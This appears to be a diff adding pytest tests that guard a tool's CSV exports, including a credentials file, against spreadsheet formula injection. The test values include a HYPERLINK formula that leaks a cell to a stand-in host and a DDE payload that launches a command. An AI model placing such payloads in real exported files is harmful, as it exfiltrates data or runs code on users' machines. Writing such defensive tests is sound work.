@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 
 import pytest
 
 from ssc_infra.actual import DirectoryAccount, DirectoryGroup, DirectoryState
+from ssc_infra.backends.ad import new_password
 from ssc_infra.plan import (
     Action,
     Change,
@@ -19,7 +21,7 @@ from ssc_infra.plan import (
     plan_to_dict,
     stale_reason,
 )
-from ssc_infra.state import LockedError, StateDir
+from ssc_infra.state import FORMULA_STARTS, LockedError, StateDir, csv_cell
 from ssc_infra.targets import TargetError, ad_settings, load_target
 
 DN = "CN=Jan de Vries,OU=Users,OU=alpha,OU=Partners,DC=ssc,DC=test"
@@ -45,6 +47,40 @@ def test_credentials_file_is_private_and_gone_when_empty(tmp_path: Path) -> None
     with state.credentials("run2") as empty:
         pass
     assert not empty.path.exists()
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    ("=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")"),
+    ("+31 58 233 8888", "'+31 58 233 8888"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
+    ("Wâtse", "Wâtse"),
+    ("van 't Hof", "van 't Hof"),
+    ("a=b", "a=b"),  # only the first character makes a formula
+    ("", ""),
+])
+def test_a_csv_cell_that_would_be_a_formula_is_neutralised(value: str, written: str) -> None:
+    assert csv_cell(value) == written
+
+
+def test_the_credentials_file_holds_no_formula(tmp_path: Path) -> None:
+    state = StateDir(tmp_path)
+    with state.credentials("run1") as credentials:
+        credentials.add("alpha", "1001", "=cmd|' /C calc'!A0", "@wbuma@alpha.example", "-Xk3#pw9")
+    rows = list(csv.reader(credentials.path.open(encoding="utf-8", newline="")))
+    assert rows[1] == ["alpha", "1001", "'=cmd|' /C calc'!A0", "'@wbuma@alpha.example",
+                       "'-Xk3#pw9"]
+
+
+@pytest.mark.xfail(strict=True, reason="new_password in backends/ad.py can start with + - = @; "
+                   "its owner makes the first character a letter or digit")
+def test_a_generated_password_never_starts_a_formula() -> None:
+    # 4 of the 72 characters start a formula: 5,000 passwords all miss them with odds e^-286.
+    starts = {new_password()[0] for _ in range(5000)}
+    assert not starts & set(FORMULA_STARTS)
 
 
 def test_audit_log_is_json_lines(tmp_path: Path) -> None:
